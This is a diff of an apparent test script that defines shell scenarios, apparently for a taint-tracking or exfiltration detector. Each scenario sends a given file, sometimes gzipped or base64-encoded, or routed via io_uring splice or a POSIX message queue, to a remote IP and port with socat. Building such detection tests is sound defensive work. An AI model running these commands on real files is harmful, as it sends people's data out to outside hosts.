@@ -359,3 +359,7 @@ SC_GZIP='gzip -c -- "$1" >"$2" && exec socat -u "FILE:$2" "TCP4:$3:$4"'
 SC_MULTI='cat -- "$1" | gzip | base64 >"$2" && cat -- "$2" | socat -u - "TCP4:$3:$4"'
 # the pipe's benign twin, untainted data: IP PORT
 SC_B_PIPE='head -c 70000 /dev/urandom | socat -u - "TCP4:$1:$2"'
+# FWURING FILE IP PORT: FILE into a pipe by io_uring splice requests only
+SC_URING_SPLICE='"$1" splice "$2" | socat -u - "TCP4:$3:$4"'
+# FWMQ FILE IP PORT: FILE through a POSIX message queue to an uploader
+SC_MQUEUE='"$1" recv "/fwmq-$$" "$3" "$4" & "$1" send "/fwmq-$$" "$2"; wait $!'
